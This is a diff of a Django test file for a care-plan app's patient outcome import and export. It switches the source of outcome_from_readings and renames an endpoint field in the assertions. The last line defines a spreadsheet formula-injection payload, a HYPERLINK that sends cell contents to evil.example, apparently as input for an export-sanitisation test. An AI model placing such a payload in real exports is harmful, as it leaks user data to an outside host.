@@ -14,8 +14,8 @@ from django.core.management import CommandError, call_command
 from django.utils import timezone
 
 from careplans.models import CarePlan, OutcomeSnapshot, PlanStatus
-from careplans.outcomes import outcome_from_readings
 from patients.models import AuditEvent, Clinic, PainCheckIn, Patient, Therapist, User
+from tests.outcomes.oracle import outcome_from_readings
 
 pytestmark = pytest.mark.django_db
 HEADER = "clinic,therapist_email,patient_email,patient_name,timezone,plan_title,plan_start,date,nprs"
@@ -82,10 +82,10 @@ def test_import_creates_everything_and_export_round_trips(tmp_path: Path) -> Non
     }
     ann = outcome_from_readings(readings["ann@x.test"], today_day=120)
     assert rows["ann@x.test"]["baseline"] == f"{ann.baseline:.2f}" == "7.00"
-    assert rows["ann@x.test"]["endpoint_12w"] == "3.50"
+    assert rows["ann@x.test"]["endpoint"] == "3.50"
     assert rows["ann@x.test"]["change"] == "-3.50" and rows["ann@x.test"]["percent_change"] == "-50.00"
     assert rows["ann@x.test"]["responder"] == "true" and rows["ann@x.test"]["reached_week_12"] == "true"
-    assert rows["bo@x.test"]["endpoint_12w"] == "" and rows["bo@x.test"]["responder"] == ""
+    assert rows["bo@x.test"]["endpoint"] == "" and rows["bo@x.test"]["responder"] == ""
     assert (
         rows["bo@x.test"]["reached_week_12"] == "false" and rows["bo@x.test"]["missing_endpoint"] == "false"
     )
@@ -94,7 +94,7 @@ def test_import_creates_everything_and_export_round_trips(tmp_path: Path) -> Non
     data = json.loads(run("export_outcomes", "--format", "json"))
     by_email = {r["patient_email"]: r for r in data}
     assert by_email["ann@x.test"]["percent_change"] == -50.0 and by_email["ann@x.test"]["responder"] is True
-    assert by_email["bo@x.test"]["endpoint_12w"] is None and by_email["bo@x.test"]["worsening"] is False
+    assert by_email["bo@x.test"]["endpoint"] is None and by_email["bo@x.test"]["worsening"] is False
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
